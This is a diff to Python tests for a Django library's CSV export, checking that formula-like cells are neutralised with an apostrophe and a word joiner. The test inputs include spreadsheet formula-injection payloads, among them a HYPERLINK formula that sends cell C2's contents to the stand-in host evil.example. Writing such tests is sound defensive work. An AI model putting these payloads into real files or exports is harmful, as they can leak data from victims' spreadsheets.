@@ -170,8 +170,9 @@ def test_csv_cells_that_look_like_formulas_stay_text(client, emulator):
 
     rows = list(csv.DictReader(io.StringIO(client.get(reverse("library:export_csv")).getvalue().decode())))
 
-    assert rows[0]["track"] == '\'=HYPERLINK("http://evil.example","x")'
-    assert rows[0]["artists"] == "'@risk"
+    # The apostrophe, then a word joiner (tests/library/test_csv_injection.py says why).
+    assert rows[0]["track"] == '\'\u2060=HYPERLINK("http://evil.example","x")'
+    assert rows[0]["artists"] == "'\u2060@risk"
 
 
 @pytest.mark.parametrize(
@@ -209,13 +210,13 @@ def test_oversized_parameters_never_give_a_500(few, params):
     [
         (
             '\x00=HYPERLINK("https://evil.example/?"&C2,"click me")',
-            '\'=HYPERLINK("https://evil.example/?"&C2,"click me")',
+            '\'\u2060=HYPERLINK("https://evil.example/?"&C2,"click me")',
         ),
-        ("\x00=1+1", "'=1+1"),
-        ("  +1", "'  +1"),
-        ("\t-2", "'-2"),
-        ("\r\n@SUM(A1)", "'@SUM(A1)"),
-        (";=3+3;", ";'=3+3;"),  # read with ';' as the separator, '=3+3' would start a cell
+        ("\x00=1+1", "'\u2060=1+1"),
+        ("  +1", "'  \u2060+1"),
+        ("\t-2", "'\u2060-2"),
+        ("\r\n@SUM(A1)", "'\u2060@SUM(A1)"),
+        (";=3+3;", ";\u2060=3+3;"),  # read with ';' as the separator, '=3+3' would start a cell
         ("Tyler, The Creator", "Tyler, The Creator"),
         ("Beyoncé: Halo", "Beyoncé: Halo"),
         ("a\x07b", "ab"),
@@ -234,4 +235,4 @@ def test_every_csv_field_is_quoted(client, emulator):
     lines = client.get(reverse("library:export_csv")).getvalue().decode().splitlines()
 
     assert all(line.startswith('"') and line.endswith('"') for line in lines)
-    assert '";\'=3+3;"' in lines[1]  # quoted, and neutralised after the inner separator
+    assert '";\u2060=3+3;"' in lines[1]  # quoted, and neutralised after the inner separator
